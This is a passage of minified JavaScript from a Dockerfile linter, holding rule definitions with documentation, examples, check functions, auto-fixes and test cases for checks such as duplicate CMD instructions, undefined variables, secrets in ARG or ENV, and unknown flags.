DEBUG` no value and `SHELL pwsh` is not JSON. The build stops at that line.",bad:`FROM python:3.12-slim AS
+COPY app.py
+ENV DEBUG
+`,good:`FROM python:3.12-slim AS app
+COPY app.py /app/
+ENV DEBUG=1
+`},check({model:n,report:e}){for(let t of n.instructions)Bx(n,t,e)},tests:[{name:"FROM without image",input:`FROM
+`,expect:[{line:1,col:1,message:"base image"}]},{name:"FROM AS without name",input:`FROM alpine AS
+`,expect:[{line:1,col:13,message:"stage name"}]},{name:"FROM two words",input:`FROM alpine latest
+`,expect:[{line:1,col:13,message:"one or three"}]},{name:"FROM second word not AS",input:`FROM alpine IS base
+`,expect:[{line:1,col:13,message:"must be AS"}]},{name:"FROM too many words",input:`FROM alpine AS my stage
+`,expect:[{line:1,col:19}]},{name:"FROM with platform and stage",input:`FROM --platform=$BUILDPLATFORM golang:1.22 as build
+`,expect:[]},{name:"COPY without destination",input:`FROM alpine
+COPY app.py
+`,expect:[{line:2,col:6,message:"at least two"}]},{name:"COPY with only flags",input:`FROM alpine
+COPY --chown=1:1
+`,expect:[{line:2,col:1}]},{name:"ADD JSON with one element",input:`FROM alpine
+ADD ["a.tar"]
+`,expect:[{line:2,message:"ADD requires"}]},{name:"COPY JSON form",input:`FROM alpine
+COPY ["a b.txt", "/dst/"]
+`,expect:[]},{name:"COPY heredoc with destination",input:`FROM alpine
+COPY <<EOF /etc/motd
+hello
+EOF
+`,expect:[]},{name:"COPY two heredocs",input:`FROM alpine
+COPY <<A <<B /dst/
+a
+A
+b
+B
+`,expect:[]},{name:"COPY heredoc without destination",input:`FROM alpine
+COPY <<EOF
+hello
+EOF
+`,expect:[{line:2,message:"COPY requires"}]},{name:"COPY continued",input:`FROM alpine
+COPY a \\
+  b \\
+  /dst/
+`,expect:[]},{name:"ARG without name",input:`ARG
+FROM alpine
+`,expect:[{line:1,message:"ARG requires"}]},{name:"ARG blank name",input:`FROM alpine
+ARG =1
+`,expect:[{line:2,col:5,message:"blank"}]},{name:"ARG several",input:`ARG A B=2 C=
+FROM alpine
+`,expect:[]},{name:"ENV without value",input:`FROM alpine
+ENV DEBUG
+`,expect:[{line:2,col:5,message:"has no value"}],fixed:`FROM alpine
+ENV DEBUG=""
+`},{name:"ENV mixed forms",input:`FROM alpine
+ENV A=1 B
+`,expect:[{line:2,col:9,message:"can't find ="}]},{name:"ENV legacy form with spaces",input:`FROM alpine
+ENV GREETING hello world
+`,expect:[]},{name:"ENV quoted values",input:`FROM alpine
+ENV A="x y" B='z w' C=a\\ b
+`,expect:[]},{name:"ENV continued",input:`FROM alpine
+ENV A=1 \\
+    B=2
+`,expect:[]},{name:"LABEL blank key",input:`FROM alpine
+LABEL =x
+`,expect:[{line:2,message:"blank"}]},{name:"LABEL empty",input:`FROM alpine
+LABEL
+`,expect:[{line:2}]},{name:"EXPOSE empty",input:`FROM alpine
+EXPOSE
+`,expect:[{line:2}]},{name:"VOLUME empty JSON",input:`FROM alpine
+VOLUME []
+`,expect:[{line:2}]},{name:"VOLUME empty string",input:`FROM alpine
+VOLUME ["/data", ""]
+`,expect:[{line:2,col:18,message:"empty"}]},{name:"STOPSIGNAL extra",input:`FROM alpine
+STOPSIGNAL SIGTERM SIGKILL
+`,expect:[{line:2,col:20}]},{name:"USER with two words",input:`FROM alpine
+USER app staff
+`,expect:[{line:2,col:10,severity:"warning"}]},{name:"USER user:group",input:`FROM alpine
+USER app:staff
+WORKDIR /srv/app
+`,expect:[]},{name:"WORKDIR with space",input:`FROM alpine
+WORKDIR /my app
+`,expect:[{line:2,severity:"warning"}]},{name:"WORKDIR quoted space",input:`FROM alpine
+WORKDIR "/my app"
+`,expect:[]},{name:"SHELL not JSON",input:`FROM alpine
+SHELL /bin/bash -c
+`,expect:[{line:2,col:7,message:"JSON form"}],fixed:`FROM alpine
+SHELL ["/bin/bash", "-c"]
+`},{name:"SHELL empty array",input:`FROM alpine
+SHELL []
+`,expect:[{line:2}]},{name:"SHELL PowerShell JSON",input:`FROM mcr.microsoft.com/windows/servercore:ltsc2022
+SHELL ["powershell", "-Command", "$ErrorActionPreference = 'Stop';"]
+`,expect:[]},{name:"HEALTHCHECK empty",input:`FROM alpine
+HEALTHCHECK
+`,expect:[{line:2}]},{name:"HEALTHCHECK NONE with args",input:`FROM alpine
+HEALTHCHECK NONE curl x
+`,expect:[{line:2,col:18}]},{name:"HEALTHCHECK without CMD",input:`FROM alpine
+HEALTHCHECK --interval=30s curl -f http://localhost/
+`,expect:[{line:2,col:28,message:"try CMD"}],fixed:`FROM alpine
+HEALTHCHECK --interval=30s CMD curl -f http://localhost/
+`},{name:"HEALTHCHECK CMD without command",input:`FROM alpine
+HEALTHCHECK CMD
+`,expect:[{line:2,message:"Missing command"}]},{name:"HEALTHCHECK forms",input:`FROM alpine
+HEALTHCHECK --retries=3 CMD ["curl", "-f", "x"]
+HEALTHCHECK none
+HEALTHCHECK cmd wget -q x
+`,expect:[]},{name:"RUN heredoc only",input:`FROM alpine
+RUN <<EOF
+echo hi
+EOF
+RUN <<-"EOT" bash
+	echo
+	EOT
+`,expect:[]},{name:"RUN empty",input:`FROM alpine
+RUN
+`,expect:[{line:2,severity:"warning"}]},{name:"ONBUILD empty",input:`FROM alpine
+ONBUILD
+`,expect:[{line:2}]},{name:"MAINTAINER empty",input:`FROM alpine
+MAINTAINER
+`,expect:[{line:2}]},{name:"lone escape at EOF",input:`FROM alpine
+COPY a \\`,expect:[{line:2}]},{name:"CRLF",input:`FROM alpine\r
+COPY a \\\r
+  b\r
+ENV A=1\r
+`,expect:[]},{name:"unterminated JSON does not throw",input:`FROM alpine
+COPY ["a", "b"
+SHELL ["sh"
+`,expect:[]},{name:"escape backtick",input:`# escape=\`
+FROM alpine
+COPY a \`
+  C:\\dst\\
+ENV A=C:\\x
+`,expect:[]}]},vf=Wx;var Gx=["CMD","ENTRYPOINT","HEALTHCHECK"],Vx={id:"MultipleInstructionsDisallowed",language:"dockerfile",severity:"warning",compat:{buildkit:"MultipleInstructionsDisallowed"},aliases:["DL4003","DL4004","DL3012"],docs:{summary:"A stage should have at most one CMD, one ENTRYPOINT and one HEALTHCHECK; the earlier ones are reported.",why:"Only the last CMD, ENTRYPOINT or HEALTHCHECK of a stage takes effect: the earlier ones are dead code that misleads readers about what the container runs.",bad:`FROM python:3.12-slim
+CMD ["python", "app.py"]
+CMD ["gunicorn", "app:app"]
+`,good:`FROM python:3.12-slim
+CMD ["gunicorn", "app:app"]
+`},check({model:n,report:e}){for(let t of n.stages){let s=new Map;for(let i of t.instructions){if(!Gx.includes(i.keyword))continue;let r=s.get(i.keyword);if(r){let o={line:r.range.start.line,character:0},a={line:r.range.end.line+1,character:0};e({message:`Multiple ${i.keyword} instructions should not be used in the same stage because only the last one will be used`,range:r.range,fixes:[{title:`Remove the ignored ${i.keyword}`,edits:[{range:{start:o,end:a},newText:""}]}]})}s.set(i.keyword,i)}}},tests:[{name:"the earlier ones are reported",input:`FROM scratch
+ENTRYPOINT ["/a"]
+ENTRYPOINT ["/b"]
+CMD ["/a"]
+CMD ["/b"]
+HEALTHCHECK CMD ["/a"]
+HEALTHCHECK CMD ["/b"]
+`,expect:[{line:2,message:"Multiple ENTRYPOINT"},{line:4,message:"Multiple CMD"},{line:6,message:"Multiple HEALTHCHECK"}],fixed:`FROM scratch
+ENTRYPOINT ["/b"]
+CMD ["/b"]
+HEALTHCHECK CMD ["/b"]
+`},{name:"three CMDs report two",input:`FROM scratch
+CMD a
+CMD b
+CMD c
+`,expect:[{line:2},{line:3}]},{name:"separate stages",input:`FROM scratch AS a
+CMD ["/a"]
+FROM a AS b
+CMD ["/b"]
+`,expect:[]},{name:"ONBUILD CMD does not count",input:`FROM scratch
+ONBUILD CMD ["/a"]
+CMD ["/b"]
+`,expect:[]},{name:"hadolint id DL4003 suppresses",input:`FROM scratch
+# hadolint ignore=DL4003
+CMD a
+CMD b
+`,expect:[]}]},kf=Vx;var zx={id:"NoEmptyContinuation",language:"dockerfile",severity:"warning",compat:{buildkit:"NoEmptyContinuation"},docs:{summary:"A line continuation should not be followed by an empty line.",why:"An empty line inside a `\\` continuation is skipped today, which hides where the instruction really ends; Docker has announced that it will become an error.",bad:`FROM debian:12
+RUN apt-get update && \\
+
+    apt-get install -y curl
+`,good:`FROM debian:12
+RUN apt-get update && \\
+    apt-get install -y curl
+`},check({model:n,report:e}){for(let t of n.instructions){if(t.range.end.line===t.range.start.line)continue;let{emptyContinuationLines:s,endLine:i}=gn(n,t);if(s.length===0)continue;let r=s.map(o=>({range:{start:{line:o,character:0},end:{line:o+1,character:0}},newText:""}));e({message:"Empty continuation line",range:{start:{line:i,character:0},end:{line:i,character:n.lines.lineText(i).length}},fixes:[{title:"Remove the empty continuation lines",preferred:!0,edits:r}]})}},tests:[{name:"empty line inside a continuation",input:`FROM scratch
+COPY Dockerfile \\
+
+.
+COPY Dockerfile \\
+.
+`,expect:[{line:4,message:"Empty continuation line"}],fixed:`FROM scratch
+COPY Dockerfile \\
+.
+COPY Dockerfile \\
+.
+`},{name:"several empty lines",input:`FROM debian
+RUN a && \\
+
+   
+    b && \\
+  c
+`,expect:[{line:6}],fixed:`FROM debian
+RUN a && \\
+    b && \\
+  c
+`},{name:"comment lines inside a continuation are fine",input:`FROM debian
+RUN a && \\
+# note
+    b
+`,expect:[]},{name:"blank lines in a heredoc are content",input:`FROM debian
+RUN <<EOF
+
+echo hi
+
+EOF
+`,expect:[]},{name:"escape directive",input:`# escape=\`
+FROM windows
+RUN a \`
+
+  b
+`,expect:[{line:5}]},{name:"blank line after the instruction",input:`FROM debian
+RUN a
+
+RUN b
+`,expect:[]}]},xf=zx;var Jx={id:"NoFromInstruction",language:"dockerfile",severity:"error",docs:{summary:"The Dockerfile has no FROM, or an instruction other than ARG comes before the first FROM.",why:"Every build stage starts with FROM; only ARG (for values used in FROM) may come before it. Anything else before the first FROM stops the build with `no build stage in current context`.",bad:`ENV PYTHONUNBUFFERED=1
+FROM python:3.12-slim
+`,good:`ARG PYTHON_VERSION=3.12
+FROM python:\${PYTHON_VERSION}-slim
+ENV PYTHONUNBUFFERED=1
+`},check({model:n,report:e}){if(!n.instructions.length){n.text.trim()&&e({message:"The Dockerfile has no instructions",range:{start:{line:0,character:0},end:{line:0,character:0}},severity:"warning"});return}if(!n.stages.length){let t=n.instructions[0];e({message:"The Dockerfile has no FROM instruction: there is no build stage",range:t.keywordRange});return}for(let t of n.preamble)t.keyword==="ARG"||!Ve(t.keyword)||e({message:`${t.keyword} before the first FROM: only ARG may come before FROM (no build stage in current context)`,range:t.keywordRange})},tests:[{name:"instruction before FROM",input:`ENV A=1
+FROM alpine
+`,expect:[{line:1,col:1,message:"ENV before the first FROM"}]},{name:"no FROM",input:`RUN echo hi
+CMD ["sh"]
+`,expect:[{line:1,message:"no FROM"}]},{name:"only ARGs",input:`ARG A=1
+`,expect:[{line:1,message:"no FROM"}]},{name:"comments only",input:`# nothing here
+`,expect:[{line:1,severity:"warning"}]},{name:"empty file",input:"",expect:[]},{name:"ARG then FROM",input:`# syntax=docker/dockerfile:1
+ARG V=3
+
+FROM alpine:\${V}
+RUN echo
+`,expect:[]},{name:"unknown instruction is reported elsewhere",input:`FORM alpine
+FROM alpine
+`,expect:[]},{name:"BOM and CRLF",input:`\uFEFFARG A\r
+FROM alpine\r
+`,expect:[]},{name:"lone escape",input:"\\",expect:[{line:1}]}]},Rf=Jx;var Kx={id:"RedundantTargetPlatform",language:"dockerfile",severity:"warning",compat:{buildkit:"RedundantTargetPlatform"},docs:{summary:"`FROM --platform=$TARGETPLATFORM` is redundant: that is already the default.",why:"Stages are built for the target platform unless told otherwise; the flag adds noise and suggests a cross-build setup that is not there.",bad:`FROM --platform=$TARGETPLATFORM alpine:3.19
+`,good:`FROM alpine:3.19
+`},check({model:n,report:e}){let t=_t(n);for(let s of n.stages){let i=he(n,s).platform;if(!i||!i.includes("$"))continue;let r=Te(i,t,n.escape),o=r.refs.filter(u=>u.found);if(r.error||o.length!==1||r.refs.length!==1||o[0].name!=="TARGETPLATFORM"||r.result!==t("TARGETPLATFORM"))continue;let c=s.from.getPlatformFlag()?.getRange(),l=c&&c.start.line===c.end.line?[{title:"Remove --platform",preferred:!0,edits:[{range:{start:c.start,end:{line:c.end.line,character:c.end.character+(/^[ \t]/.test(n.lines.lineText(c.end.line).slice(c.end.character))?1:0)}},newText:""}]}]:void 0;e({message:`Setting platform to predefined ${i} in FROM is redundant as this is the default behavior`,range:c&&c.start.line===s.fromInstruction.range.start.line?c:s.fromInstruction.range,fixes:l})}},tests:[{name:"$TARGETPLATFORM",input:`FROM --platform=$TARGETPLATFORM scratch
+`,expect:[{line:1,col:6,message:"predefined $TARGETPLATFORM"}],fixed:`FROM scratch
+`},{name:"${TARGETPLATFORM}",input:"FROM --platform=${TARGETPLATFORM} scratch AS a\n",expect:[{line:1,message:"${TARGETPLATFORM}"}],fixed:`FROM scratch AS a
+`},{name:"$BUILDPLATFORM is meaningful",input:`FROM --platform=$BUILDPLATFORM golang:1.22
+`,expect:[]},{name:"combined values",input:`FROM --platform=$TARGETOS/$TARGETARCH scratch
+`,expect:[]},{name:"check=skip",input:`
+# check=skip=RedundantTargetPlatform
+FROM --platform=$TARGETPLATFORM scratch
+`,expect:[]}]},Of=Kx;var Xx=new Set(["scratch","context"]),Zx={id:"ReservedStageName",language:"dockerfile",severity:"warning",compat:{buildkit:"ReservedStageName"},docs:{summary:"Stage names should not be `scratch` or `context`, which BuildKit reserves.",why:"`scratch` is the empty image and `context` names the build context: a stage with one of these names makes `FROM scratch` or `--from=context` ambiguous.",bad:`FROM alpine AS scratch
+RUN touch /a
+`,good:`FROM alpine AS base
+RUN touch /a
+`},check({model:n,report:e}){for(let t of n.stages){let s=t.name?.toLowerCase();!s||!Xx.has(s)||e({message:`Stage name should not use the same name as reserved stage "${s}"`,range:t.nameRange??t.fromInstruction.keywordRange})}},tests:[{name:"scratch and context",input:`FROM scratch AS scratch
+FROM scratch AS context
+`,expect:[{line:1,message:'"scratch"'},{line:2,message:'"context"'}]},{name:"case-insensitive",input:`FROM alpine AS Context
+`,expect:[{line:1}]},{name:"using scratch as base is fine",input:`FROM scratch
+FROM scratch AS a
+`,expect:[]}]},Sf=Zx;var Qx=/(?:_|^)(?:apikey|auth|credential|credentials|key|password|pword|passwd|secret|token)(?:_|$)/i,eR=/(?:_|^)(?:public|file|version)(?:_|$)/i;function tR(n){return Qx.test(n)&&!eR.test(n)}var nR={id:"SecretsUsedInArgOrEnv",language:"dockerfile",severity:"warning",compat:{buildkit:"SecretsUsedInArgOrEnv"},docs:{summary:"ARG and ENV should not carry secrets (names like `*_TOKEN`, `PASSWORD`, `API_KEY`).",why:"ARG and ENV values are stored in the image metadata and build history, where anyone who can pull the image can read them; use `RUN --mount=type=secret` instead.",bad:`FROM node:20
+ARG NPM_TOKEN
+RUN echo "//registry.npmjs.org/:_authToken=$NPM_TOKEN" > .npmrc && npm ci
+`,good:`FROM node:20
+RUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci
+`},check({model:n,report:e}){for(let t of n.instructions)if(!(t.keyword!=="ARG"&&t.keyword!=="ENV"))for(let s of Be(n,t).pairs){let i=dt(s.key,n.escape);tR(i)&&e({message:`Do not use ARG or ENV instructions for sensitive data (${t.keyword} "${i}")`,range:t.range})}},tests:[{name:"BuildKit's examples",input:`FROM scratch
+ARG SECRET_PASSPHRASE
+ENV SUPER_Secret=foo
+ENV password=bar secret=baz
+ARG super_duper_secret_token=foo auth=bar
+ENV apikey=bar sunflower=foo
+ENV git_key=
+ENV PUBLIC_KEY=
+ARG public_token
+ARG SECRET_PASSPHRASE_FILE
+ENV password_file=bar secret_File=baz
+ARG AUTH_MODULE_VERSION
+`,expect:[{line:2,message:'ARG "SECRET_PASSPHRASE"'},{line:3,message:'ENV "SUPER_Secret"'},{line:4,message:'"password"'},{line:4,message:'"secret"'},{line:5,message:'"super_duper_secret_token"'},{line:5,message:'"auth"'},{line:6,message:'"apikey"'},{line:7,message:'"git_key"'}]},{name:"legacy ENV form",input:`FROM scratch
+ENV GITHUB_TOKEN abc
+`,expect:[{line:2}]},{name:"ordinary names",input:`FROM scratch
+ARG VERSION
+ENV PATH=/x KEYBOARD=us TOKENIZER=x MONKEY=1
+`,expect:[]},{name:"local check=skip",input:`FROM scratch
+# check=skip=SecretsUsedInArgOrEnv // allowed
+ARG password
+`,expect:[]}]},Mf=nR;var sR={id:"ShellFormAfterExecEntrypoint",language:"dockerfile",severity:"warning",docs:{summary:"A shell-form CMD is combined with an exec-form ENTRYPOINT.",why:'With `ENTRYPOINT ["python", "manage.py"]`, CMD supplies its arguments. A shell-form `CMD runserver 0.0.0.0:8000` becomes `["/bin/sh", "-c", "runserver 0.0.0.0:8000"]`, so the entrypoint receives `/bin/sh -c \u2026` as arguments instead of the ones you wrote. Write CMD as a JSON array.',bad:`FROM python:3.12-slim
+ENTRYPOINT ["python", "manage.py"]
+CMD runserver 0.0.0.0:8000
+`,good:`FROM python:3.12-slim
+ENTRYPOINT ["python", "manage.py"]
+CMD ["runserver", "0.0.0.0:8000"]
+`},check({model:n,report:e}){for(let t of n.stages){let s,i;for(let p of t.instructions)p.keyword==="ENTRYPOINT"?s=p:p.keyword==="CMD"&&(i=p);if(!s||!i)continue;let r=Ne(n,s);if(r.kind!=="json"||!r.elements.length||Ne(n,i).kind!=="shell")continue;let a=B(n,i);if(!a.rest||a.flags.length)continue;let c=vn(a.rest),l=j(n,a.line,a.restStart,a.line.text.trimEnd().length),u=c&&a.contiguous?[{title:"Write CMD as a JSON array",preferred:!0,edits:[{range:l,newText:dr(c)}]}]:void 0;e({message:`Shell-form CMD after an exec-form ENTRYPOINT: the entrypoint receives "/bin/sh -c ${a.rest}" as its arguments`,range:i.range.start.line===i.range.end.line?i.range:i.keywordRange,fixes:u})}},tests:[{name:"shell CMD after exec ENTRYPOINT",input:`FROM python:3.12
+ENTRYPOINT ["gunicorn"]
+CMD -b 0.0.0.0:8000 app:app
+`,expect:[{line:3,col:1}],fixed:`FROM python:3.12
+ENTRYPOINT ["gunicorn"]
+CMD ["-b", "0.0.0.0:8000", "app:app"]
+`},{name:"CMD before ENTRYPOINT in the stage",input:`FROM alpine
+CMD -v
+ENTRYPOINT ["app"]
+`,expect:[{line:2}]},{name:"shell features: no fix",input:`FROM alpine
+ENTRYPOINT ["app"]
+CMD serve $HOME
+`,expect:[{line:3}],fixed:`FROM alpine
+ENTRYPOINT ["app"]
+CMD serve $HOME
+`},{name:"exec CMD",input:`FROM alpine
+ENTRYPOINT ["app"]
+CMD ["--help"]
+`,expect:[]},{name:"shell ENTRYPOINT",input:`FROM alpine
+ENTRYPOINT app
+CMD help
+`,expect:[]},{name:"empty ENTRYPOINT",input:`FROM alpine
+ENTRYPOINT []
+CMD echo hi
+`,expect:[]},{name:"different stages",input:`FROM alpine
+ENTRYPOINT ["app"]
+FROM alpine
+CMD echo hi
+`,expect:[]},{name:"official image pattern",input:`FROM debian
+ENTRYPOINT ["docker-entrypoint.sh"]
+CMD ["node"]
+`,expect:[]}]},Af=sR;function iR(n,e,t){let s=e.toLowerCase(),i=[];for(let r of n.instructions)if(r.keyword==="FROM"){let o=r.stage,a=o.from.getImageRange(),c=o.from.getImage();if(a&&c&&c.toLowerCase()===s&&c!==t){let l=n.findStage(c);l&&l.index<o.index&&i.push({range:a,newText:t})}o.name?.toLowerCase()===s&&o.nameRange&&o.name!==t&&i.push({range:o.nameRange,newText:t})}else if(r.keyword==="COPY"||r.keyword==="RUN"||r.keyword==="ADD"){let o=r.node;for(let a of o.getFlags?.()??[]){let c=a.getName().toLowerCase();if(c==="from"&&a.getValue()?.toLowerCase()===s&&a.getValueRange())i.push({range:a.getValueRange(),newText:t});else if(c==="mount")for(let l of a.getOptions())l.getName().toLowerCase()==="from"&&l.getValue()?.toLowerCase()===s&&l.getValueRange()&&i.push({range:l.getValueRange(),newText:t})}}return i}var rR={id:"StageNameCasing",language:"dockerfile",severity:"warning",compat:{buildkit:"StageNameCasing"},docs:{summary:"Stage names should be lowercase.",why:"BuildKit treats stage names case-insensitively and lowercases them, so `AS Builder` and `--from=builder` are the same stage; mixed casing makes references look different from what they are and is reported by `docker build --check`.",bad:`FROM golang:1.22 AS Builder
+RUN go build -o /app .
+
+FROM alpine:3.19
+COPY --from=Builder /app /app
+`,good:`FROM golang:1.22 AS builder
+RUN go build -o /app .
+
+FROM alpine:3.19
+COPY --from=builder /app /app
+`},check({model:n,report:e}){for(let t of n.stages){let s=he(n,t).name;if(!s||s===s.toLowerCase()||!t.nameRange)continue;let i={title:`Rename stage '${s}' to '${s.toLowerCase()}'`,preferred:!0,edits:iR(n,s,s.toLowerCase())};e({message:`Stage name '${s}' should be lowercase`,range:t.nameRange,fixes:[i]})}},tests:[{name:"mixed-case stage name and its references",input:`FROM alpine AS Base
+RUN echo
+FROM Base AS Next
+COPY --from=Base /a /b
+RUN --mount=type=bind,from=BASE,target=/x ls
+`,expect:[{line:1,col:16,message:"Stage name 'Base' should be lowercase"},{line:3,message:"'Next'"}],fixed:`FROM alpine AS base
+RUN echo
+FROM base AS next
+COPY --from=base /a /b
+RUN --mount=type=bind,from=base,target=/x ls
+`},{name:"lowercase names are fine",input:`FROM alpine AS base
+FROM base AS build-stage_2
+`,expect:[]},{name:"unnamed stages",input:`FROM alpine
+FROM Ubuntu
+`,expect:[]},{name:"an image with the same name is not renamed",input:`FROM Node AS Node
+`,expect:[{line:1}],fixed:`FROM Node AS node
+`}]},Nf=rR;var oR={id:"UndefinedArgInFrom",language:"dockerfile",severity:"warning",compat:{buildkit:"UndefinedArgInFrom"},docs:{summary:"Variables in FROM must be ARGs declared before the first FROM (or predefined platform ARGs).",why:'FROM only sees global ARGs; an undeclared or misspelled name expands to an empty string, which gives a wrong image tag or a confusing "invalid reference format" error.',bad:"FROM node:${NODE_VERSION}-alpine\n",good:`ARG NODE_VERSION=20
+FROM node:\${NODE_VERSION}-alpine
+`},check({model:n,report:e}){let t=_t(n),s=os(n).names;for(let i of n.stages){let{image:r,platform:o}=he(n,i),a=[];for(let c of[o,r]){if(!c||!c.includes("$"))continue;let l=Te(c,t,n.escape);for(let u of sr(l))!a.includes(u)&&!tr(u)&&a.push(u)}for(let c of a){let l=ir(c,s);e({message:`FROM argument '${c}' is not declared${l?` (did you mean ${l}?)`:""}`,range:i.fromInstruction.range})}}},tests:[{name:"misspelled platform arg",input:`
+FROM --platform=$BULIDPLATFORM scratch
+`,expect:[{line:2,message:"FROM argument 'BULIDPLATFORM' is not declared (did you mean BUILDPLATFORM?)"}]},{name:"suggests a declared arg",input:`ARG MY_OS=linux
+ARG MY_ARCH=amd64
+FROM --platform=linux/\${MYARCH} busybox
+`,expect:[{line:3,message:"did you mean MY_ARCH?"}]},{name:"no suggestion",input:"ARG tag=latest\nFROM busybox:${tag}${version} AS b\n",expect:[{line:2,message:/'version' is not declared$/}]},{name:"ARG declared in an earlier stage does not count",input:`FROM alpine
+ARG V=1
+FROM alpine:$V
+`,expect:[{line:3}]},{name:"declared and predefined args",input:`ARG base=scratch
+ARG DEBUG
+FROM $base
+FROM --platform=$BUILDPLATFORM scratch\${DEBUG}
+FROM scra\${DEBUG:-tch}
+FROM alpine:\${UNSET:-3.19}
+`,expect:[]}]},Ef=oR;function aR(n,e){switch(e.keyword){case"ENV":case"LABEL":case"ARG":{let t=[];for(let s of Be(n,e).pairs)t.push(s.key),s.value!==void 0&&t.push(s.value);return t}case"COPY":case"ADD":{let{flags:t,words:s}=mn(n,e),i=s.filter(r=>!r.startsWith("<<"));for(let r of t)(r.name==="chown"||r.name==="chmod")&&r.value&&i.push(r.value);return i}case"WORKDIR":case"USER":case"STOPSIGNAL":return[gn(n,e).args.trim()];case"VOLUME":return mn(n,e).words;default:return[]}}function cR(n,e,t){let s=$p(e,t.index),i=[];for(let r of aR(n,t)){if(!r.includes("$"))continue;let o=Te(r,s,n.escape);for(let a of sr(o))!i.includes(a)&&!tr(a)&&i.push(a)}return i}var lR={id:"UndefinedVar",language:"dockerfile",severity:"warning",compat:{buildkit:"UndefinedVar"},docs:{summary:"Variables used in ENV, LABEL, ARG, COPY, ADD, WORKDIR, USER, VOLUME and STOPSIGNAL should be defined before their use.",why:"An undefined variable expands to an empty string, so `COPY $DIR_ASSET .` copies the whole context and `ENV PATH=$PAHT:/x` loses the PATH. Global ARGs are not visible in a stage until it repeats `ARG NAME`. (RUN commands are expanded by the shell and not checked.)",bad:`FROM alpine:3.19
+ARG DIR_ASSETS=assets/
+COPY $DIR_ASSET /srv/
+`,good:`FROM alpine:3.19
+ARG DIR_ASSETS=assets/
+COPY $DIR_ASSETS /srv/
+`},check({model:n,report:e}){let t=os(n).declared;for(let s of hn(n).byStage)for(let i of s.stage.instructions){if(i.keyword==="FROM")continue;let r=cR(n,s,i);if(r.length===0)continue;let o=_p(s,i.index);for(let a of r){let c=ir(a,o,!s.windows);!s.baseKnown&&!(s.defs.has(a)&&s.defs.get(a)>=i.index)&&!c&&!t.has(a)||e({message:`Usage of undefined variable '$${a}'${c?` (did you mean $${c}?)`:""}`,range:i.range})}}},tests:[{name:"used before its ARG",input:`FROM alpine
+COPY $foo .
+ARG foo=bar
+RUN echo $foo
+`,expect:[{line:2,message:"Usage of undefined variable '$foo'"}]},{name:"near miss",input:`FROM alpine
+ARG DIR_BINARIES=binaries/
+ARG DIR_ASSETS=assets/
+COPY $DIR_ASSET .
+`,expect:[{line:4,message:"'$DIR_ASSET' (did you mean $DIR_ASSETS?)"}]},{name:"PATH typo",input:`FROM alpine
+ENV PATH=$PAHT:/tmp/bin
+`,expect:[{line:2,message:"(did you mean $PATH?)"}]},{name:"scratch stages",input:`FROM scratch AS first
+COPY $foo .
+FROM scratch AS second
+COPY \${bar} .
+`,expect:[{line:2},{line:4}]},{name:"global ARG needs redeclaring",input:`ARG V=1
+FROM node:20
+COPY app-$V.tgz .
+`,expect:[{line:3}]},{name:"defined, inherited and shell-expanded",input:`ARG V=1
+FROM alpine AS base
+ARG foo=Dockerfile
+ARG V
+ENV A=1
+RUN echo $PATH $UNDEFINED
+COPY Dockerfile\${foo} /$V/
+FROM base
+COPY $foo $A .
+LABEL x="\${A}" y='$NOT_EXPANDED' z=\\$ESCAPED
+WORKDIR \${UNSET:-/default}
+`,expect:[]},{name:"ARG without a value",input:`FROM scratch
+ARG foo
+COPY Dockerfile\${foo} .
+`,expect:[]},{name:"unknown base image env is trusted",input:`FROM python:3.12
+ENV PATH=$PYTHON_HOME/bin:$PATH
+WORKDIR $HOME
+`,expect:[]},{name:"proxy args",input:`FROM scratch
+ENV http_proxy=$HTTP_PROXY
+`,expect:[]},{name:"heredocs, ONBUILD, CMD and HEALTHCHECK are not expanded by BuildKit",input:`FROM scratch
+COPY <<EOF /a.txt
+$NOT_A_VAR
+EOF
+ONBUILD COPY $LATER .
+CMD echo $X
+HEALTHCHECK CMD curl $URL
+`,expect:[]},{name:"flags of COPY",input:`FROM scratch
+COPY --chown=$APP_USER:0 a /a
+`,expect:[{line:2,message:"'$APP_USER'"}]},{name:"same ENV instruction does not define it yet",input:`FROM scratch
+ENV A=1 B=$A
+`,expect:[{line:2,message:"'$A'"}]},{name:"Windows names are case-insensitive",input:`FROM mcr.microsoft.com/windows/servercore:ltsc2022
+ENV GOPATH=C:\\go
+ENV PATH=$GoPath\\bin
+`,expect:[]},{name:"escape directive",input:`# escape=\`
+FROM scratch
+ENV A=\`$B
+`,expect:[]}]},Ff=lR;function uR(n,e){return Object.keys(wn).filter(t=>t!==e&&n in wn[t]&&!Xc[t]?.has(n))}var pR={id:"UnknownFlag",language:"dockerfile",severity:"error",docs:{summary:"An instruction has a `--flag` it does not accept, or a flag value the builder rejects.",why:"Each instruction accepts a fixed set of flags (`COPY --from --chown --chmod --link --parents --exclude`, `RUN --mount --network --security`, \u2026). A misspelt flag, a flag of another instruction, a string flag without `=value` or an unknown `--network` mode stops `docker build` with `unknown flag`.",bad:`FROM python:3.12-slim
+COPY --chmown=app:app . /app
+RUN --network=off pip install -r /app/requirements.txt
+`,good:`FROM python:3.12-slim
+COPY --chown=app:app . /app
+RUN --network=none pip install -r /app/requirements.txt
+`},check({model:n,report:e}){let t;for(let s of n.instructions){let i=s.keyword;if(!Ve(i))continue;let r=B(n,s);if(!r.flags.length)continue;let o=wn[i]??{},a=i==="HEALTHCHECK"&&r.words[0]?.raw.toUpperCase()==="NONE";for(let c=0;c<r.flags.length;c++){let l=r.flags[c],u=j(n,r.line,l.start,l.end),p=j(n,r.line,l.start+2,l.nameEnd);if(pd.has(i)||a){e({message:`--${l.name} is ignored: ${a?"HEALTHCHECK NONE":i} takes no flags`,range:u,severity:"warning",fixes:[{title:`Remove --${l.name}`,edits:[{range:j(n,r.line,l.start,r.flags[c+1]?.start??r.restStart),newText:""}]}]});continue}let d=o[l.name];if(!d){let m=be(l.name,Object.keys(o)),g=uR(l.name,i),h=`Unknown flag --${l.name} for ${i}`;m?h+=` (did you mean --${m}?)`:g.length?h+=`; --${l.name} belongs to ${g.join(", ")}`:Object.keys(o).length||(h+=`: ${i} takes no flags`);let y=m?[{title:`Change to --${m}`,preferred:!0,edits:[{range:p,newText:m}]}]:void 0;e({message:h,range:p,fixes:y});continue}if(Xc[i]?.has(l.name)&&(t??=gd(n),!t)){e({message:`${i} --${l.name} needs the labs frontend: add \`# syntax=docker/dockerfile:1-labs\``,range:p});continue}let f=l.value;if(d!=="bool"&&f===void 0){let m=r.words[0],g=[],h=i==="COPY"||i==="ADD"?r.words.length>=3:r.words.length>=2;m&&l===r.flags[r.flags.length-1]&&h&&r.contiguous&&g.push({title:`Write 